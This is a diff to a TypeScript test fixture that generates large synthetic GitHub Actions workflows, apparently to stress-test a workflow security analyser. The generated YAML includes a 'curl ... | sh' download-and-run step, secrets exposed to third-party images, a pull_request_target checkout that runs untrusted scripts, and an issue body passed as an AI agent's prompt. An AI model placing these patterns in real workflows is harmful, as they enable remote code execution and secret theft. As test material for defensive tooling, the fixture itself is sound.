@@ -197,4 +197,16 @@ export const GROWING_WORKFLOWS: Readonly<Record<string, (bytes: number) => strin
       () =>
         `    - uses: anthropics/claude-code-action@v1\n      with:\n        prompt: "\${{ github.event.issue.body }}"\n        claude_args: "${'--allowedTools Bash(x:*) '.repeat(100)}"\n`,
     ),
+  'keys handed to movable images': (bytes) =>
+    steps(bytes, (index) => `    - uses: docker://acme/tools\n      env: { T: "\${{ secrets.ACME_${index} }}" }\n`),
+  'keys of a build cache': (bytes) =>
+    steps(bytes, (index) => `    - run: make\n      name: sccache\n      env: { T: "\${{ secrets.AWS_${index} }}" }\n`),
+  'downloads beside an environment in a chain': (bytes) =>
+    `on: push\njobs:\n  a:\n    runs-on: x\n    env:\n${upTo(bytes / 2, (index) => `      V${index}: "\${{ env.V${index + 1} }}"\n`)}    steps:\n${upTo(bytes / 2, () => '    - run: curl https://a.example/$V1 | sh\n')}`,
+  'scripts in folders of a loop': (bytes) => {
+    const size = Math.min(bytes, 190_000) / 2;
+    const checkout =
+      '    - uses: actions/checkout@v4\n      with: { ref: "${{ github.event.pull_request.head.sha }}" }\n';
+    return `on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n${checkout}    - run: |\n        find ${upTo(size, (index) => `d${index} `)}-name x | while read f; do\n${upTo(size, () => '          bash "$f"\n')}        done\n`;
+  },
 };
